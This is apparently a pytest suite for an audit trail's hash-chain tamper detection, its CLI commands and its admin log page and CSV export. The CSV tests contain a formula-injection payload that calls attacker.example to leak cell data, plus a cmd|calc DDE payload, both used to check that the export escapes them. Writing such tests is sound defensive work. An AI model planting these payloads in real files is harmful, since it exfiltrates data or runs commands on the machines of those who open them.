"""The audit trail: what gets recorded, the hash chain that shows tampering, the
`audit verify` and `audit head` commands, and the administrators' log page and export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from click.testing import Result
from flask import Flask
from flask.cli import FlaskGroup
from sqlalchemy import insert, text
from sqlmodel import Session, col, select

from mlat.models import AuditEntry, MlaRequest, Role, User
from mlat.services import audit
from tests.conftest import Client
from tests.test_workflow import submittable_content

ENTRIES = 5


def flask(runner: Any, *args: str) -> Result:
    """Run a command as the `flask` executable does (it pushes an app context)."""
    cli = FlaskGroup(load_dotenv=False, set_debug_flag=False)
    result: Result = runner.invoke(cli, args=list(args))
    return result


@pytest.fixture
def fresh(app: Flask) -> Iterator[Callable[[], Session]]:
    """Sessions of their own, as a second process (the CLI, another worker) would have."""
    opened: list[Session] = []

    def open_() -> Session:
        session = Session(app.extensions["mlat_engine"], expire_on_commit=False)
        opened.append(session)
        return session

    yield open_
    for session in opened:
        session.close()


def verify(fresh: Callable[[], Session]) -> audit.Verification:
    return audit.verify(fresh())


def trail(db: Any) -> list[tuple[str, str, int | None, str, str]]:
    db.expire_all()
    rows = db.exec(select(AuditEntry).order_by(col(AuditEntry.seq)))
    return [(e.action, e.outcome, e.user_id, e.object_type, e.object_id) for e in rows]


def test_a_working_session_is_recorded_in_order(
    client: Client,
    make_user: Callable[..., User],
    make_request: Callable[..., MlaRequest],
    db: Any,
    fresh: Callable[[], Session],
) -> None:
    officer = make_user(Role.officer)
    request = make_request(officer, content=submittable_content(dt.date.today()))
    rid = str(request.id)

    assert client.login(officer.email, "not the password at all").status_code == 200
    assert client.login(officer.email).status_code == 302
    assert client.get(f"/requests/{request.id}").status_code == 200
    client.submit(
        f"/requests/{request.id}/edit",
        {"title": "Business e-mail compromise", "requested_state": "US", "version": "1"},
    )
    client.submit(f"/requests/{request.id}/do/submit", {"version": "2"},
                  form_url=f"/requests/{request.id}")  # fmt: skip
    client.submit("/logout", {}, form_url="/")

    recorded = [row for row in trail(db) if row[0] != "request.view"]
    assert recorded == [
        ("request.create", "success", officer.id, "request", rid),
        ("login", "failure", None, "email", officer.email),
        ("login", "success", officer.id, "user", str(officer.id)),
        ("request.edit", "success", officer.id, "request", rid),
        ("request.submit", "success", officer.id, "request", rid),
        ("logout", "success", officer.id, "", ""),
    ]
    views = [row for row in trail(db) if row[0] == "request.view"]
    assert ("request.view", "success", officer.id, "request", rid) in views
    addresses = {e.action: e.client_addr for e in db.exec(select(AuditEntry))}
    assert addresses["login"] == addresses["request.submit"] == "127.0.0.1"
    assert all(e.unit_id == officer.unit_id for e in db.exec(select(AuditEntry)) if e.user_id)

    result = verify(fresh)
    assert result.intact
    assert result.checked == len(trail(db))


# Tampering ---------------------------------------------------------------------------------


@pytest.fixture
def five_entries(db: Any, make_user: Callable[..., User]) -> list[AuditEntry]:
    """A chain of five entries and nothing else."""
    user = make_user(Role.officer)
    db.execute(text("DELETE FROM audit_entry"))
    db.execute(text("UPDATE audit_head SET seq = 0, hash = :genesis"), {"genesis": audit.GENESIS})
    entries = [
        audit.record(db, action="request.view", user=user, object_type="request", object_id=n)
        for n in range(1, ENTRIES + 1)
    ]
    db.commit()
    return entries


def _forge(db: Any, *, seq: int, prev_hash: str) -> None:
    """Add an entry that looks right: it follows its predecessor and its hash fits."""
    forged = AuditEntry(seq=seq, at=dt.datetime.now(dt.UTC), action="login", object_type="user",
                        object_id="1", prev_hash=prev_hash, hash="")  # fmt: skip
    forged.hash = audit.entry_hash(forged)
    db.execute(insert(AuditEntry).values(**forged.model_dump()))


def _edit_outcome(db: Any, entries: list[AuditEntry]) -> None:
    db.execute(text("UPDATE audit_entry SET outcome = 'failure' WHERE seq = 3"))


def _edit_user(db: Any, entries: list[AuditEntry]) -> None:
    db.execute(text("UPDATE audit_entry SET user_id = user_id + 1 WHERE seq = 2"))


def _rewrite_last(db: Any, entries: list[AuditEntry]) -> None:
    """Edit the newest entry and give it the hash of its new content."""
    db.execute(text("DELETE FROM audit_entry WHERE seq = 5"))
    _forge(db, seq=5, prev_hash=entries[3].hash)


def _delete_middle(db: Any, entries: list[AuditEntry]) -> None:
    db.execute(text("DELETE FROM audit_entry WHERE seq = 3"))


def _delete_last(db: Any, entries: list[AuditEntry]) -> None:
    db.execute(text("DELETE FROM audit_entry WHERE seq = 5"))


def _insert_after_last(db: Any, entries: list[AuditEntry]) -> None:
    _forge(db, seq=6, prev_hash=entries[4].hash)


def _insert_in_the_middle(db: Any, entries: list[AuditEntry]) -> None:
    """Move entries 3 to 5 up by one and slip a well-formed entry in at 3."""
    db.execute(text("UPDATE audit_entry SET seq = seq + 100 WHERE seq >= 3"))
    db.execute(text("UPDATE audit_entry SET seq = seq - 99 WHERE seq >= 100"))
    _forge(db, seq=3, prev_hash=entries[1].hash)


@pytest.mark.parametrize(
    ("tamper", "broken_at", "problem"),
    [
        (_edit_outcome, 3, "content changed after it was written"),
        (_edit_user, 2, "content changed after it was written"),
        (_rewrite_last, 5, "does not match the chain head"),
        (_delete_middle, 3, "missing entry"),
        (_delete_last, 5, "entries missing at the end of the chain"),
        (_insert_after_last, 6, "not in the chain head: inserted"),
        (_insert_in_the_middle, 4, "does not follow the entry before"),
    ],
    ids=lambda v: v.__name__.strip("_") if callable(v) else None,
)
def test_verify_finds_the_first_entry_tampered_with(
    db: Any,
    runner: Any,
    fresh: Callable[[], Session],
    five_entries: list[AuditEntry],
    tamper: Callable[[Any, list[AuditEntry]], None],
    broken_at: int,
    problem: str,
) -> None:
    assert verify(fresh) == audit.Verification(True, ENTRIES)
    tamper(db, five_entries)
    db.commit()

    result = verify(fresh)
    assert (result.intact, result.broken_at, result.problem) == (False, broken_at, problem)
    assert result.checked == broken_at - 1

    command = flask(runner, "audit", "verify")
    assert command.exit_code == 1
    assert f"Audit trail broken at entry {broken_at}: {problem}" in command.output


def test_verify_command_says_the_trail_is_intact(
    runner: Any, five_entries: list[AuditEntry]
) -> None:
    command = flask(runner, "audit", "verify")
    assert command.exit_code == 0, command.output
    assert f"Audit trail intact: {ENTRIES} entries." in command.output


def test_head_command_prints_the_newest_number_and_hash(
    runner: Any, db: Any, five_entries: list[AuditEntry]
) -> None:
    command = flask(runner, "audit", "head")
    assert command.exit_code == 0
    assert command.output.strip() == f"{ENTRIES} {five_entries[-1].hash}"

    newest = audit.record(db, action="logout")
    db.commit()
    assert flask(runner, "audit", "head").output.strip() == f"{ENTRIES + 1} {newest.hash}"


def test_an_empty_trail_is_intact(db: Any, runner: Any, fresh: Callable[[], Session]) -> None:
    db.execute(text("DELETE FROM audit_entry"))
    db.execute(text("DELETE FROM audit_head"))
    db.commit()
    assert verify(fresh) == audit.Verification(True, 0)
    assert flask(runner, "audit", "head").output.strip() == f"0 {audit.GENESIS}"


def test_concurrent_appends_keep_one_chain(db: Any, fresh: Callable[[], Session]) -> None:
    """Two workers write at the same moment (from an empty trail, so both also race to
    create the chain head); every entry lands once, in one unbroken chain."""
    db.execute(text("DELETE FROM audit_entry"))
    db.execute(text("DELETE FROM audit_head"))
    db.commit()
    per_worker, start = 15, threading.Barrier(2)
    failures: list[BaseException] = []

    def worker(name: str) -> None:
        session = fresh()
        try:
            start.wait(timeout=10)
            for n in range(per_worker):
                audit.record(session, action="request.view", object_type=name, object_id=n)
                session.commit()
        except BaseException as exc:  # reported below, in the test's thread
            failures.append(exc)
            session.rollback()

    threads = [threading.Thread(target=worker, args=(name,)) for name in ("one", "two")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert failures == []
    assert verify(fresh) == audit.Verification(True, 2 * per_worker)
    written = list(db.exec(select(AuditEntry.object_type, AuditEntry.object_id)))
    assert sorted(written) == sorted(
        (name, str(n)) for name in ("one", "two") for n in range(per_worker)
    )


def test_verify_while_others_keep_appending_is_not_a_false_alarm(
    db: Any,
    fresh: Callable[[], Session],
    five_entries: list[AuditEntry],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    walk = audit._entries

    def walk_then_someone_appends(session: Session) -> Iterator[AuditEntry]:
        yield from walk(session)
        other = fresh()
        audit.record(other, action="login")
        other.commit()

    monkeypatch.setattr(audit, "_entries", walk_then_someone_appends)
    assert audit.verify(fresh()).intact
    monkeypatch.undo()
    assert verify(fresh) == audit.Verification(True, ENTRIES + 1)


# The administrators' log page --------------------------------------------------------------


@pytest.mark.parametrize("url", ["/admin/audit", "/admin/audit.csv"])
@pytest.mark.parametrize("role", [Role.officer, Role.reviewer, Role.prosecutor])
def test_only_administrators_see_the_audit_log(
    client: Client, login_as: Callable[..., User], url: str, role: Role, db: Any
) -> None:
    login_as(role)
    response = client.get(url)
    assert response.status_code == 403
    assert "You do not have permission to do this." in response.text
    assert "Audit log" not in client.get("/").text  # not offered in the menu
    assert "audit.export" not in [row[0] for row in trail(db)]


def test_admin_filters_the_log(
    client: Client,
    login_as: Callable[..., User],
    make_user: Callable[..., User],
    make_request: Callable[..., MlaRequest],
    db: Any,
) -> None:
    officer = make_user(Role.officer)
    request = make_request(officer, title="Ransomware at a clinic")
    other = make_request(officer, title="Investment fraud")
    audit.record(db, action="request.view", user=officer, object_type="request",
                 object_id=other.id, at=dt.datetime(2026, 1, 10, 12, 0, tzinfo=dt.UTC))  # fmt: skip
    db.commit()
    client.login(officer.email, "a wrong password, twice")
    admin = login_as(Role.admin)

    page = client.get("/admin/audit")
    assert page.status_code == 200
    assert "Audit log" in client.get("/").text  # the menu offers it
    assert page.text.index("login") < page.text.index("request.create")  # newest first
    assert officer.email in page.text and admin.email in page.text

    def rows(**args: str) -> str:
        response = client.get("/admin/audit", query_string=args)
        assert response.status_code == 200
        return response.text.split("<tbody>")[1] if "<tbody>" in response.text else ""

    by_user = rows(user=officer.email.upper())
    assert "request.create" in by_user and admin.email not in by_user
    by_action = rows(action="login")
    assert "login" in by_action and "request.create" not in by_action
    assert by_action.count("failure") == 1
    by_object = rows(object_type="request", object_id=str(request.id))
    assert by_object.count("<tr>") == 1 and "request.create" in by_object
    by_date = rows(date_from="2026-01-10", date_to="2026-01-10")
    assert by_date.count("<tr>") == 1 and f"request {other.id}" in by_date
    assert (
        "No entry matches these filters."
        in client.get(
            "/admin/audit", query_string={"date_from": "2025-01-01", "date_to": "2025-01-02"}
        ).text
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({"user": "nobody@example.org"}, "No user has this e-mail address."),
        ({"user": "not an address"}, "Enter an e-mail address."),
        ({"date_from": "10/01/2026"}, "Not a valid date value."),
        ({"date_from": "2026-02-01", "date_to": "2026-01-01"}, "The end date is before"),
    ],
    ids=["unknown-user", "bad-email", "bad-date", "dates-reversed"],
)
def test_filters_that_do_not_fit_are_explained(
    client: Client, login_as: Callable[..., User], args: dict[str, str], message: str
) -> None:
    login_as(Role.admin)
    for url in ("/admin/audit", "/admin/audit.csv"):
        response = client.get(url, query_string=args)
        assert response.status_code == 400
        assert message in response.text
        assert "There is a problem" in response.text


def test_log_pages_newest_first(client: Client, login_as: Callable[..., User], db: Any) -> None:
    login_as(Role.admin)
    for n in range(120):
        audit.record(db, action="request.view", object_type="request", object_id=1000 + n)
    db.commit()
    first = client.get("/admin/audit", query_string={"action": "request.view"})
    assert "request 1119" in first.text and "request 1020" in first.text
    assert "request 1019" not in first.text
    older = first.text.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0]
    assert "before_seq=" in older and "action=request.view" in older
    second = client.get(older.replace("&amp;", "&"))
    assert "request 1019" in second.text and "request 1000" in second.text
    assert "request 1020" not in second.text
    assert 'rel="next"' not in second.text
    assert "Newest entries" in second.text


def test_export_is_csv_escapes_formulas_and_is_itself_audited(
    client: Client, login_as: Callable[..., User], db: Any
) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    client.login(formula, "whatever password")
    admin = login_as(Role.admin)

    response = client.get("/admin/audit.csv", query_string={"action": "login"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["action"], r["outcome"]) for r in rows] == [
        ("login", "success"),
        ("login", "failure"),
    ]
    assert rows[1]["object_id"].startswith("'=")  # shown as text, never run
    assert rows[0]["user_id"] == str(admin.id)

    [export] = [e for e in db.exec(select(AuditEntry)) if e.action == "audit.export"]
    assert (export.user_id, export.object_type) == (admin.id, "audit")
    assert "2 entries" in export.reason and "action=login" in export.reason


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(start: str) -> None:
    entry = AuditEntry(seq=1, at=dt.datetime(2026, 3, 1, tzinfo=dt.UTC), action="login",
                       object_type="email", object_id=f"{start}cmd|' /C calc'!A0",
                       prev_hash=audit.GENESIS, hash="")  # fmt: skip
    [row] = list(csv.DictReader(io.StringIO(audit.to_csv([entry]))))
    assert row["object_id"] == f"'{start}cmd|' /C calc'!A0"
    assert row["action"] == "login"
